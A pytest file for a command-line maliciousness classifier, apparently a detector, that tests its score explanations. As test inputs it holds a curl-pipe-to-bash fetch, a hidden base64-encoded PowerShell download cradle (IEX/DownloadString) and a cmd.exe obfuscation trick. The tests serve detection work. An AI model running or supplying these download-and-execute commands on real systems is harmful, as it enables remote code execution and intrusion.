from __future__ import annotations

import base64
import math
import random

import numpy as np
import pyarrow as pa
import pytest

from cmdclf.classify import Classifier, Featuriser, Scorer, export_model
from cmdclf.classify.explain import EXPLAINED
from cmdclf.features.embed_layers import with_layers
from cmdclf.lexicon.pools import LexiconPool
from cmdclf.lines import Layer
from cmdclf.resources import data_path

CURL = "curl -s http://198.51.100.7/x.sh | bash"


def encoded(text):
    return "powershell -w hidden -enc " + base64.b64encode(text.encode("utf-16-le", "surrogatepass")).decode()


@pytest.fixture(scope="module")
def scorer(small):
    return Scorer.load(small.folder, threads=1)


@pytest.fixture(scope="module")
def bundled():
    return Scorer.load(data_path("model"), threads=1)


def lines(*texts, platform="linux"):
    return pa.record_batch(
        {"command_line": pa.array(texts, pa.string()), "platform": pa.array([platform] * len(texts), pa.string())}
    )


def sigmoid(value):
    return 1 / (1 + math.exp(-value))


def test_the_parts_sum_up_to_the_score(scorer, small):
    batch = lines(CURL, "ls", "", "grep -rn timeout5 /etc/nginx", encoded("IEX (New-Object Net.WebClient)"))
    weight = small.classifier.beside_[0]
    own = weight * small.featuriser.grams.decision_function(batch["command_line"])
    explained = scorer.explain(batch)
    assert explained.schema.equals(EXPLAINED)
    for row, score, ngrams in zip(explained.to_pylist(), scorer.score(batch)["score"].to_pylist(), own, strict=True):
        sums = row["log_odds"]
        assert sums["ngrams"] == pytest.approx(ngrams, abs=1e-9)
        spans = sum(span["log_odds"] for span in row["spans"])
        assert sums["constant"] + spans == pytest.approx(ngrams, abs=1e-9)
        assert sigmoid(sums["ngrams"] + sums["rest"]) == pytest.approx(score, abs=1e-5)


def test_spans_are_characters_of_the_line_as_given_and_of_the_layer_that_they_name(scorer):
    script = "IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.1/\u0130\u212a')"
    batch = lines("\u0130 CURL -s HTTP://198.51.100.7/x.sh | bash", encoded(script), platform="windows")
    plain, hidden = scorer.explain(batch).to_pylist()
    for span in plain["spans"]:
        assert span["layer"] is None
        assert span["text"] == batch["command_line"][0].as_py()[span["start"] : span["end"]]
    inner = [span for span in hidden["spans"] if span["layer"] is not None]
    assert {span["kind"] for span in inner} == {"encoded-command"}
    for span in inner:
        kind, _, text = hidden["layers"][span["layer"]].partition(": ")
        assert (kind, text) == ("encoded-command", script)
        assert text[span["start"] : span["end"]] == span["text"]
    assert [span for span in hidden["spans"] if span["layer"] is None]


def test_a_layer_that_only_the_n_grams_read_is_listed(scorer):
    # To the shell of the row's platform this hides nothing.
    line = r'C:\Windows\System32\cmd.exe /c "set x=whoami&&call %x:a=A% /all"'
    assert with_layers(pa.array([line]))[0].as_py() != line
    (row,) = scorer.explain(lines(line, platform="linux")).to_pylist()
    named = {span["layer"] for span in row["spans"]} - {None}
    assert len(named) == 1
    layer = row["layers"][named.pop()]
    assert "whoAmi /all" in layer


def test_half_a_surrogate_pair_in_a_layer_is_no_fault(scorer, monkeypatch):
    halved = [Layer("char", "whoami \ud83d")]
    monkeypatch.setattr("cmdclf.classify.explain.decode_layers", lambda text, platform: list(halved))
    (row,) = scorer.explain(lines("ls")).to_pylist()
    assert row["layers"] == ["char: whoami ?"]


def test_rows_are_explained_in_a_batch_as_alone(scorer, small):
    together = scorer.explain(small.batch.slice(0, 12)).to_pylist()
    for i, row in enumerate(together):
        (alone,) = scorer.explain(small.batch.slice(i, 1)).to_pylist()
        assert alone["spans"] == row["spans"]
        assert [c["check"] for c in alone["checks"]] == [c["check"] for c in row["checks"]]


def test_a_checks_effect_and_log_odds_are_of_one_sign_and_the_largest_comes_first(scorer):
    (row,) = scorer.explain(lines(CURL)).to_pylist()
    effects = [check["effect"] for check in row["checks"] if check["effect"] is not None]
    assert effects
    assert effects == sorted(effects, reverse=True)
    assert all(c["effect"] * c["log_odds"] >= 0 for c in row["checks"] if c["effect"] is not None)


def test_reasons_name_the_checks_and_the_spans_that_add_most(scorer):
    (row,) = scorer.explain(lines(CURL)).to_pylist()
    top = max(row["spans"], key=lambda span: span["log_odds"])
    assert f"the text '{top['text']}' ({top['log_odds']:+.2f} log-odds)" in row["reasons"]
    assert all(any(check["title"] in reason for reason in row["reasons"]) for check in row["checks"])


def test_a_model_without_n_grams_has_no_spans_and_all_of_its_score_in_the_rest(small, tmp_path):
    featuriser = Featuriser(small.featuriser.maker, small.featuriser.embedder)
    matrix = small.matrix[:, : featuriser.width]
    classifier = Classifier(max_iter=5).fit(matrix, small.labels)
    folder = export_model(tmp_path / "m", classifier, featuriser, name="plain", provenance={}, metrics={})
    scorer = Scorer.load(folder, threads=1)
    (row,) = scorer.explain(lines(CURL)).to_pylist()
    assert (row["spans"], row["log_odds"]["ngrams"], row["neighbours"]) == ([], 0.0, [])
    assert sigmoid(row["log_odds"]["rest"]) == pytest.approx(scorer.score(lines(CURL))["score"][0].as_py(), abs=1e-5)


def test_without_its_strongest_span_the_score_of_a_known_attack_falls(bundled):
    pool = LexiconPool(repeats=1)
    wanted = random.Random(5).sample(np.flatnonzero(pool.table.malicious).tolist(), 200)
    text, _ = pool.lines(np.array(wanted), random.Random(5))
    platform = pa.array(pool.table.platform[wanted], pa.string())
    explained = bundled.explain(pa.record_batch({"command_line": text, "platform": platform})).to_pylist()
    before, after, kept = [], [], []
    for row, line, where in zip(explained, text.to_pylist(), platform.to_pylist(), strict=True):
        own = [span for span in row["spans"] if span["layer"] is None]
        top = max(own, key=lambda span: span["log_odds"], default=None)
        if top is not None and top["log_odds"] > 0:
            before.append(line)
            after.append(line[: top["start"]] + line[top["end"] :])
            kept.append(where)
    assert len(before) > 190
    whole, cut = (
        bundled.probabilities(pa.record_batch({"command_line": side, "platform": kept})) for side in (before, after)
    )
    assert (cut < whole).mean() >= 0.9
